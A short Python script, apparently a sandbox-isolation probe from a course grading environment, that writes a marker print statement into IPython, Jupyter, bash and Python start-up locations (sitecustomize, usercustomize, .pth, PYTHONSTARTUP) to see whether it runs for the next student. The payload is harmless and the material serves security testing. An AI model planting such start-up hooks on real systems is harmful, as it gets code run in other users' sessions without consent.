# tries: leave start-up files for the next student's Python, IPython and shell
# earns: nothing
import os
import pathlib
import site
import sys

code = "print('TAKEN: a start-up file ran')\n"
home = pathlib.Path.home()
places = [
    home / ".ipython/profile_default/startup/00.py",
    home / ".ipython/profile_default/ipython_config.py",
    home / ".jupyter/jupyter_config.py",
    home / ".bashrc",
    home / ".matplotlib/matplotlibrc",
    pathlib.Path(site.getusersitepackages(), "usercustomize.py"),
    pathlib.Path(site.getusersitepackages(), "left.pth"),
    pathlib.Path("sitecustomize.py"),
    pathlib.Path("/tmp/sitecustomize.py"),
    pathlib.Path("/course/sitecustomize.py"),
    *(pathlib.Path(one, "sitecustomize.py") for one in sys.path if one),
]
for place in places:
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(code)
    except OSError:
        pass
os.environ["PYTHONSTARTUP"] = "/tmp/sitecustomize.py"
